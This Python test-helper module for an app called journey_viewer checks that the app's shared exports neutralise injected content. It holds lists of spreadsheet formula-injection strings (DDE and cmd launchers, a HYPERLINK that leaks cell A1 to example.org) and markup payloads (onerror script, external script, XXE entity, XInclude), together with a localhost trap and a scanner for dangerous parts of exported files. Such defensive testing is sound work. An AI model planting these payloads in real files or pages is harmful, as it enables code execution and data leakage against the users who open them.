"""Texts that a program could take for more than text: formulas, and markup that loads something or leads somewhere."""

import os
import re
import socket
import zipfile
from collections.abc import Collection, Iterator, Sequence
from dataclasses import dataclass, replace
from io import BytesIO
from pathlib import Path
from typing import Any

from invented import OTTILIE, PEOPLE, ROWS, TODAY, listed
from lxml import etree

from journey_viewer.commands.argument_kinds import FORMATS
from journey_viewer.commands.sources import walk
from journey_viewer.model.actions import Action
from journey_viewer.model.imported import Imported
from journey_viewer.model.notes import Note
from journey_viewer.model.sharing import ForSharing, ToShare
from journey_viewer.privacy.identifiers import Identifiers
from journey_viewer.session import Session, opened
from journey_viewer.work.guard import Guard
from journey_viewer.work.pack_files import Wanted
from journey_viewer.work.share_pack import share_pack

FORMULAS = (
    *("=1+1", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "{=1+1}", "'=1+1", '"=1+1'),
    *("＝1+1", "＋1+1", "－2+3", "＠SUM(A1)", "\u200b=1+1", "+cmd|' /C calc'!A0", "=cmd|' /C calc'!A0"),
    *('=HYPERLINK("http://example.org/?"&A1,"click")', '=WEBSERVICE("http://example.org")'),
    *('=DDE("cmd";"/C calc";"x")', "=[other.xlsx]Sheet1!A1", '=IMPORTXML("http://example.org","//a")'),
    *("external:c:\\other.xlsx", "mailto:somebody@example.org"),
)
_MARKUP = (
    *("<img src='{}'>", '<img src="{}" onerror="alert(1)"/>', "<IMG SRC={}>", "<b>x</b><img src='{}'/>"),
    *("<html><body background='{}'>", "<table background='{}'><tr><td>x</td></tr></table>", "<td background='{}'>x"),
    *("<style>@import url('{}');</style>", "<style>body{{background:url({})}}</style><p>x</p>"),
    *("<p style=\"background-image:url('{}')\">x</p>", "<div style=background:url({})>x</div>"),
    *("<span style='border-image:url({})'>x</span>", "<link rel='stylesheet' href='{}'>", "<script src='{}'></script>"),
    *("<iframe src='{}'></iframe>", "<object data='{}'></object>", "<embed src='{}'>", "<video src='{}'></video>"),
    *("<audio src='{}'></audio>", "<source srcset='{}'>", "<img srcset='{} 2x'>", "<input type=image src='{}'>"),
    *("<base href='{}'><img src='a.png'>", "<meta http-equiv='refresh' content='0;url={}'>", "<a href='{}'>x</a>"),
    *("<a href='{}'><img src='{}'></a>", "<svg><image href='{}'/></svg>", "<svg><use href='{}#a'/></svg>"),
    *("<svg xmlns:xlink='http://www.w3.org/1999/xlink'><image xlink:href='{}'/></svg>", "<svg><feImage href='{}'/></svg>"),
    *("<?xml-stylesheet href='{}'?><svg/>", "<!DOCTYPE x [<!ENTITY e SYSTEM '{}'>]><x>&e;</x>", "<x xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='{}'/></x>"),
    *("![x]({})", "[x]({})", "<{}>", "[x]: {}", "]]><img src='{}'>", "--><img src='{}'>", "\"><img src='{}'>"),
    *("&lt;img src='{}'&gt;", "&#60;img src='{}'&#62;", "<img src='&#104;{}'>", "<qt><img src='{}'></qt>", "<ul style=\"list-style-image:url('{}')\"><li>x</ul>"),
    *("<hr style=\"background:url('{}')\">", "<center><font face='x'><img src='{}'></font></center>"),
    *("<a href='javascript:alert(1)'>{}</a>", "<img src='qrc:/x.png'><img src='{}'>", "<img src='data:image/png;base64,AA=='><img src='{}'>"),
)  # fmt: skip


@dataclass(frozen=True)
class Trap:
    """A port on which nobody may knock and a file that nobody may read."""

    server: socket.socket
    file: Path

    def payloads(self, every: int = 1) -> list[str]:
        """Every so manieth of the fifty, some asking for the file, some for the port."""
        port = f"http://127.0.0.1:{self.server.getsockname()[1]}/x.png"
        places = (port, self.file.as_uri(), str(self.file))
        return [text.replace("{}", places[n % 3]) for n, text in enumerate(_MARKUP) if n % every == 0]

    @property
    def sprung(self) -> bool:
        """Whether anybody knocked or read."""
        try:
            self.server.accept()[0].close()
        except BlockingIOError:
            return self.file.stat().st_atime > 0
        return True


def trap(folder: Path) -> Trap:
    """Set: a file that is older than its last change tells when it was read, where its disk keeps that."""
    file = folder / "bait.png"
    file.write_bytes(b"\x89PNG\r\n\x1a\n")
    os.utime(file, (0, 1))
    server = socket.create_server(("127.0.0.1", 0))
    server.setblocking(False)
    return Trap(server, file)


def hostile_lists(texts: Sequence[str]) -> Imported:
    """Everything that is imported says one of these, in turn."""
    turn = _in_turn(texts)
    people = tuple(replace(person, name=next(turn), local_id=next(turn)) for person in PEOPLE)
    rows = [
        replace(
            row, named=next(turn), reason=next(turn), clinician=next(turn), place=next(turn), mode=next(turn)
        )
        for row in ROWS * (1 + len(texts) // len(ROWS) // 4)
    ]
    lists = listed(*rows, people=people)
    sources = tuple(
        replace(one, file=next(turn), sheet=next(turn), remarks=(next(turn),)) for one in lists.sources
    )
    problems = tuple(
        replace(one, file=next(turn), sheet=next(turn), column=next(turn)) for one in lists.problems
    )
    return replace(lists, sources=sources, problems=problems)


def hostile_words(texts: Sequence[str]) -> dict[str, Any]:
    """Everything that can be written for sharing says one of these, as fields of a document."""
    words = frozenset(word.casefold() for text in texts for word in re.findall(r"\w+", text))
    sharing = ForSharing(
        about=texts[0], headline=texts[-1], different=tuple(texts), kept_words=words, reason=texts[0]
    )
    notes = tuple(Note(place, OTTILIE, text, shared=True) for place, text in enumerate(texts, start=1))
    actions = tuple(
        Action(place, OTTILIE, text, text, text, text) for place, text in enumerate(texts, start=1)
    )
    return {"sharing": {OTTILIE: sharing}, "notes": notes, "actions": actions}


def _in_turn(texts: Sequence[str]) -> Iterator[str]:
    while True:
        yield from texts


def as_it_is(text: str, _kept: Collection[str]) -> str:
    """In place of the scrubber, which would take out most of it: so all of it reaches the files."""
    return text


def dangers_in(name: str, content: bytes) -> list[str]:
    """What a program that opens the file would run, load or follow."""
    if name.endswith((".xlsx", ".pptx")):
        return list(_in_package(content))
    if name.endswith(".svg"):
        return list(_in_drawing(content))
    if name.endswith(".pdf"):
        return [
            mark
            for mark in ("/URI", "/JS", "/JavaScript", "/Launch", "/EmbeddedFile")
            if mark.encode() in content
        ]
    return []


def _in_package(content: bytes) -> Iterator[str]:
    with zipfile.ZipFile(BytesIO(content)) as package:
        for part in package.namelist():
            if "external" in part.lower() or part.endswith((".bin", ".vbs")):
                yield part
            if not part.endswith((".xml", ".rels")):
                continue
            for element in etree.fromstring(package.read(part)).iter("*"):
                tag = etree.QName(element).localname
                if tag in {
                    "f",
                    "hyperlink",
                    "hyperlinks",
                    "hlinkClick",
                    "hlinkHover",
                    "ddeLink",
                    "externalLink",
                }:
                    yield f"{part}: {tag}"
                if element.get("TargetMode") == "External":
                    yield f"{part}: outside"


def _in_drawing(content: bytes) -> Iterator[str]:
    for element in etree.fromstring(content).iter("*"):
        tag = etree.QName(element).localname
        if tag in {"image", "script", "a", "use", "feImage", "foreignObject", "iframe", "style"}:
            yield tag
        yield from (
            name
            for name, value in element.items()
            if "href" in name or ("url(" in value and "url(#" not in value)
        )


def session_of(texts: Sequence[str]) -> Session:
    """With these in every field that is imported, and in all that can be written for sharing."""
    session = opened(hostile_lists(texts), TODAY)
    return replace(session, document=replace(session.document, **hostile_words(texts)))


def pack_of(told: ToShare, folder: Path) -> dict[str, bytes]:
    """Every file of every format, by name."""
    guard = Guard(Identifiers(frozenset(), frozenset()), as_it_is)
    walk(share_pack(told, folder, Wanted(frozenset(FORMATS)), guard, TODAY))
    return {path.name: path.read_bytes() for path in folder.iterdir()}
